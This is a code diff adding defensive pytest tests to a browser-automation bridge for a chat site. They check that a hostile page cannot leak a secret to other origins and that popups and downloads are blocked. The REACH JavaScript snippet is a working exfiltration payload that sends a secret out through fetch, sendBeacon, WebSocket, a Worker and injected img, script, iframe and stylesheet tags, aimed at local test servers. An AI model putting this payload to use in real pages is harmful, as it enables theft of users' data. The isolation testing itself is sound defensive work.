@@ -7,10 +7,12 @@ from pathlib import Path
 
 import pytest
 from openai import APIStatusError
+from playwright.async_api import Error as PlaywrightError
 
 from bridge.browser import Chromium
 from bridge.errors import BridgeError
 from bridge.session import open_session
+from bridge.settings import BrowserSettings
 from bridge.sites.base import Strayed
 from bridge.sites.deepseek import Driver
 from bridge.telemetry import WorkerState
@@ -108,3 +110,58 @@ async def test_a_password_is_not_typed_into_another_origins_form(tmp_path: Path,
             with pytest.raises(BridgeError, match="has left the site"):
                 await session.driver.sign_in("somebody@example.com", PROMPT)
         assert foreign.pieces_of(PROMPT, "somebody@example.com") == []
+
+
+REACH = """async ([url, secret]) => {
+  const settled = work => Promise.race([work, new Promise(done => setTimeout(done, 3000))]).catch(() => null);
+  const loads = element => new Promise(done => {
+    element.onload = element.onerror = done;
+    document.body.append(element);
+  });
+  const made = (name, more) => Object.assign(document.createElement(name), more);
+  const socket = new WebSocket(url.replace("http", "ws") + "/?" + secret);
+  const sent = `{method: "POST", body: "${secret}", mode: "no-cors"}`;
+  const worker = `fetch("${url}/worker", ${sent}).finally(() => postMessage(1))`;
+  const thread = new Worker(URL.createObjectURL(new Blob([worker])));
+  navigator.sendBeacon(url + "/beacon", secret);
+  await Promise.all([
+    fetch(url, {method: "POST", body: secret, mode: "no-cors"}),
+    fetch(url + "/?" + secret, {headers: {authorization: secret}}),
+    loads(made("img", {src: `${url}/picture?${secret}`})),
+    loads(made("script", {src: `${url}/script?${secret}`})),
+    loads(made("iframe", {src: `${url}/frame?${secret}`})),
+    loads(made("link", {rel: "stylesheet", href: `${url}/style?${secret}`})),
+    new Promise(done => { socket.onclose = done; }),
+    new Promise(done => { thread.onmessage = done; }),
+  ].map(settled));
+}"""
+
+
+async def test_no_byte_of_a_page_reaches_this_machine_beside_the_site_itself(
+    tmp_path: Path, chromium: Chromium
+) -> None:
+    async with foreign_origins() as (one, other), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        browser = BrowserSettings(check_every=0.5, call_limit=3)
+        settings = run.settings.model_copy(update={"browser": browser})
+        async with open_session(chromium, run.store.load("alice"), Driver, settings) as session:
+            for url in (one.url, other.url, one.url.replace("localhost", "127.0.0.1")):
+                await session.page.evaluate(REACH, [url, PROMPT.replace(" ", "-")])
+            with pytest.raises(PlaywrightError, match="net::"):
+                await session.page.goto(f"{one.url}/?{PROMPT}")
+        assert (one.connections, other.connections) == (0, 0)
+
+
+async def test_windows_that_a_page_opens_are_closed_and_downloads_refused(tmp_path: Path, chromium: Chromium) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        profile = run.store.load("alice")
+        async with open_session(chromium, profile, Driver, run.settings) as session:
+            await session.page.evaluate("() => { for (let n = 0; n < 5; n++) window.open('/?' + n); }")
+            async with session.page.expect_download() as downloading:
+                await session.page.evaluate(
+                    "() => Object.assign(document.createElement('a'), {href: '/big', download: 'big'}).click()"
+                )
+            assert await (await downloading.value).failure() is not None
+            async with asyncio.timeout(LIMIT):
+                while len(pages := session.context.pages) > 1:
+                    await asyncio.sleep(0.05)
+            assert pages == [session.page]
